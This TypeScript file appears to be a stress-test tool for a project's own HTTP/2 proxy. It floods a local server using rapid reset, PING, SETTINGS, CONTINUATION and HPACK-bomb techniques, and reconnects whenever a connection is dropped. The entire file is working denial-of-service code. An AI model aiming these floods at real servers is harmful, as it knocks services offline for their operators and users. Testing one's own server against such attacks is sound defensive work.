/**
 * A client that floods HTTP/2: `node flood-client.ts PORT KIND SECONDS`. When its connection is closed it opens another. Prints
 * how many connections it had and how many bytes it sent.
 */
import { once } from 'node:events';
import { FLAG, FRAME, frame, integer, literal, RawHttp2, uint32 } from '../proxy/client/http2/raw-http2.ts';
import { secureConnection } from '../proxy/secure.ts';

const HOST = 't0.localhost';
const GET = literal([
  [':method', 'GET'],
  [':scheme', 'https'],
  [':path', '/'],
  [':authority', HOST],
]);
const CANCEL = 8;
/** Frames that are sent at once: more than the kernel takes. */
const TOGETHER = 500;

/** Returns frames of the flood. @param nextStream returns the number of a new stream */
type Flood = (nextStream: () => number) => Buffer;

const repeated = (part: Buffer): Flood => {
  const parts = Buffer.concat(Array.from({ length: TOGETHER }, () => part));
  return () => parts;
};

/** A field of 3.8 kB in the dynamic table, once; then heads that refer to it 3,000 times. */
const STORED = Buffer.concat([
  Buffer.from([0x40, 6]),
  Buffer.from('x-bomb'),
  integer(3800, 7, 0),
  Buffer.alloc(3800, 'x'),
]);
const BOMB = Buffer.concat([GET, Buffer.alloc(3000, 0x80 | 62)]);

const FLOODS: Readonly<Record<string, Flood>> = {
  'rapid reset': (nextStream) => {
    const pairs = Array.from({ length: TOGETHER }, nextStream).flatMap((stream) => [
      frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, stream, GET),
      frame(FRAME.reset, 0, stream, uint32(CANCEL)),
    ]);
    return Buffer.concat(pairs);
  },
  PING: repeated(frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  SETTINGS: repeated(frame(FRAME.settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))),
  CONTINUATION: (nextStream) => {
    const part = frame(FRAME.continuation, 0, nextStream(), literal([['x-filler', 'x'.repeat(1000)]]));
    part.writeUInt32BE(1, 5);
    return Buffer.concat(Array.from({ length: TOGETHER }, () => part));
  },
  'HPACK bomb': (nextStream) =>
    Buffer.concat(
      Array.from({ length: 50 }, () => frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, nextStream(), BOMB)),
    ),
};

async function flood(port: number, kind: string, endsAtMs: number): Promise<number> {
  const client = RawHttp2.over(await secureConnection(port, { servername: HOST, ALPNProtocols: ['h2'] }));
  const { socket } = client;
  let stream = 1;
  const nextStream = () => {
    stream += 2;
    return stream;
  };
  // A head that other frames follow.
  const isOpen = kind === 'CONTINUATION';
  const first = kind === 'HPACK bomb' ? Buffer.concat([GET, STORED]) : GET;
  client.send(FRAME.headers, FLAG.endStream | (isOpen ? 0 : FLAG.endHeaders), 1, first);
  while (socket.writable && performance.now() < endsAtMs) {
    const hasRoom = socket.write(FLOODS[kind]?.(nextStream) ?? '');
    // A flood that is accepted for good would fill this process.
    client.received.length = 0;
    if (!hasRoom) await client.drained();
  }
  const { bytesWritten } = socket;
  if (!socket.destroyed) socket.destroy();
  if (!socket.closed) await once(socket, 'close');
  return bytesWritten;
}

const [port = '', kind = '', seconds = ''] = process.argv.slice(2);
const endsAtMs = performance.now() + Number(seconds) * 1000;
let connections = 0;
let bytes = 0;
while (performance.now() < endsAtMs) {
  bytes += await flood(Number(port), kind, endsAtMs).catch(() => 0);
  connections += 1;
}
console.log(`${connections} ${bytes}`);
